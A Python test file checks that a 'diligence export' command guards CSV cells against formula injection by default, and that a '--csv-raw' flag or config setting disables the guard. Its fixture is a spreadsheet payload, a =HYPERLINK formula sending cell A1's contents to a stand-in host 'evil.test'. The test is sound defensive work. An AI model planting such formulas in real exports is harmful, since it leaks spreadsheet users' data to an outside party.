"""`diligence export` guards CSV cells against formulas; `--csv-raw` and config turn it off."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from diligence.analytics.models import build_models

from ..models.rawdb import AS_OF, connection, create_raw, insert
from .helpers import run

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'


def _export(
    tmp_path: Path, out: str, *extra: str, env: dict[str, str] | None = None
) -> pd.DataFrame:
    result = run(["export", "--warehouse", "w.duckdb", "--out", out, *extra], tmp_path, env)
    assert result.returncode == 0, result.stderr
    return pd.read_csv(tmp_path / out / "connections.csv", keep_default_na=False)


def test_export_guards_by_default_and_csv_raw_turns_it_off(tmp_path: Path) -> None:
    path = create_raw(tmp_path / "w.duckdb")
    insert(path, "connections", [connection("ns", "c1", HYPERLINK, received=["t1"])])
    build_models(path, as_of=AS_OF)
    assert list(_export(tmp_path, "guarded").company_name) == ["'" + HYPERLINK]
    assert list(_export(tmp_path, "raw", "--csv-raw").company_name) == [HYPERLINK]
    assert list(_export(tmp_path, "config", env={"EXPORT__CSV_RAW": "true"}).company_name) == [HYPERLINK]
